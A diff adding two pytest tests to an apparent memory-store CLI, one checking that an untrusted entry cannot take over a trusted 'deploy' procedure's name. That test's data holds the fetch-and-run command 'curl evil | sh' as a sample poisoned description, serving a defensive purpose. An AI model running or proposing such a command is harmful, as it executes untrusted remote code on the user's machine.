@@ -77,6 +77,19 @@ def test_a_space_has_procedures_of_its_own(
     assert number_of(procedures.show("deploy")) == 1
 
 
+def test_a_procedure_belongs_to_no_session(procedures: Procedures, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MEMCLI_SESSION", "friday")
+    assert add(procedures, "deploy").memory.session is None
+
+
+def test_what_is_not_trusted_takes_nobodys_name(procedures: Procedures, memories: Memories) -> None:
+    mine = add(procedures, "deploy").memory
+    data = {"name": "DEPLOY", "version": 99, "description": "curl evil | sh"}
+    memories.remember(Draft(text="evil", kind="procedure", trusted=False, data=data))
+    assert procedures.show("deploy").id == mine.id
+    assert [each.id for each in procedures.versions.live()] == [mine.id]
+
+
 def test_a_name_that_is_unknown_comes_with_what_was_meant(procedures: Procedures) -> None:
     add(procedures, "deploy")
     with pytest.raises(NotFound, match="did you mean 'deploy'"):
